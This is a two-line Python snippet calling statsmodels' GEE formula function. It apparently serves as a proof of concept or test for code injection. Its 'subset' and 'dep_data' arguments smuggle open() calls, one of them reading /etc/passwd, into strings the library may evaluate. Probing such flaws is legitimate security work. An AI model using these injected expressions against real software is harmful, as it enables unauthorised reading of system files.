import statsmodels.formula.api as smf
smf.gee("y ~ x", "g", data["x"], cov_struct=None, subset="open('x')", dep_data="0 + open('/etc/passwd')")
